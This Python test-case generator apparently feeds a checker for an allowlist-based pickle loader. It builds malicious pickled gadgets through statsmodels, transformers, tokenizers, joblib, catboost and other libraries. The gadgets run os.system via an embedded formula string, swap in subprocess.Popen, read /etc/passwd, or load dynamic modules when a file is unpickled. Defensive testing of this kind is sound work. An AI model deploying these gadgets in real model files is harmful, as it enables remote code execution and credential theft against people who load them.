"""Gadgets through, or right beside, the names that the newest releases brought to the allowlist."""

from collections.abc import Iterator
from typing import Any

from proofs.hostile.assembler import WEIGHTS, Apply, Ref, pickled
from proofs.hostile.case import COMMAND, Case

_DATA = "statsmodels.base.data"
_FORMULA = f"y ~ I(__import__('os').system('{COMMAND}'))"
_BUILT = Ref("transformers.training_args", "TrainingArguments")
_ACT = Apply(Ref("os", "system"), (COMMAND,))


def _new(module: str, name: str, state: Any, *arguments: Any) -> Apply:
    return Apply(Ref(module, name), arguments, state=state, new=True)


def _formula(key: str, name: str = "ModelData") -> Apply:
    return _new(_DATA, name, {key: True, "formula": _FORMULA, "frame": {}})


_STATES = {"restore_design_info": "ModelData", "restore_model_spec": "PandasData"}


def _things() -> Iterator[tuple[str, Any]]:
    """Name and object. Each acts, or takes over an object, when it is loaded."""
    for key, name in _STATES.items():
        yield f"formula-{key}", _formula(key, name)
    yield (
        "formula-old-protocol",
        Apply(
            Ref("copyreg", "_reconstructor"),
            (Ref(_DATA, "ModelData"), Ref("builtins", "object"), None),
            state={"restore_design_info": True, "formula": _FORMULA},
        ),
    )
    yield "formula-pair", _new(_DATA, "ModelData", (None, {"restore_model_spec": True}))
    yield (
        "formula-computed-state",
        _new(_DATA, "ModelData", Apply(Ref("collections", "Counter"), ())),
    )
    yield "formula-bytes-key", _new(_DATA, "ModelData", {b"restore_model_spec": True})
    yield "arguments-constructed", Apply(_BUILT, ("/tmp/seamark-harmless",))
    yield (
        "arguments-class",
        _new(_BUILT.module, _BUILT.name, {"__class__": Ref("subprocess", "Popen")}),
    )
    yield "arguments-hidden-call", _new(_BUILT.module, _BUILT.name, {"output_dir": _ACT})
    yield "strategy-computed", Apply(Ref("transformers.trainer_utils", "IntervalStrategy"), (_ACT,))
    yield "trainer-module-walk", Apply(Ref("transformers.trainer_utils", "os.system"), (COMMAND,))
    yield "distributed-constructed", Apply(Ref("accelerate.state", "PartialState"), (True,))
    yield "tokenizer-from-file", Apply(Ref("tokenizers", "Tokenizer.from_file"), ("/etc/passwd",))
    yield "tokenizer-bad-model", _new("tokenizers", "Tokenizer", b"{}", _ACT)
    yield (
        "old-wrapper-opens-a-file",
        _new("joblib.numpy_pickle_compat", "NDArrayWrapper", {"filename": "/etc/passwd"}),
    )
    yield "joblib-memory", _new("joblib.memory", "Memory", {"location": "/tmp/seamark-harmless"})
    yield (
        "catboost-constructed",
        Apply(Ref("catboost.core", "CatBoostClassifier"), ("/tmp/seamark-harmless",)),
    )
    yield "catboost-pool", Apply(Ref("catboost.core", "Pool"), ("/etc/passwd",))
    yield "sampler-constructed", Apply(Ref("imblearn.base", "FunctionSampler"), (_ACT,))
    yield "features-computed", Apply(Ref("datasets.features.features", "Features"), (_ACT,))
    yield (
        "state-space-callable",
        Apply(
            Ref("statsmodels.tsa.statespace._representation", "dStatespace"), (Ref("os", "system"),)
        ),
    )
    yield (
        "statsmodels-loader",
        Apply(Ref("statsmodels.iolib.smpickle", "load_pickle"), ("/tmp/seamark-harmless.pkl",)),
    )
    yield (
        "auto-model",
        Apply(
            Ref("transformers.models.auto.auto_factory", "_BaseAutoModelClass.from_pretrained"),
            ("x/y",),
        ),
    )
    yield (
        "dynamic-module",
        Apply(
            Ref("transformers.dynamic_module_utils", "get_class_in_module"),
            ("X", "seamark_harmless.py"),
        ),
    )


def cases() -> Iterator[Case]:
    """Each object by itself, or as a part of a model."""
    for index, (name, thing) in enumerate(_things()):
        protocol = (2, 4, 5)[index % 3]
        whole = thing if index % 2 else {**WEIGHTS, "head": thing}
        yield Case(
            id=f"release-{name}",
            family="third-party",
            group=f"release:{name.partition('-')[0]}",
            source="own",
            path=f"releases/{name}.pkl",
            build=lambda whole=whole, protocol=protocol: pickled(whole, protocol),  # type: ignore[misc]
        )
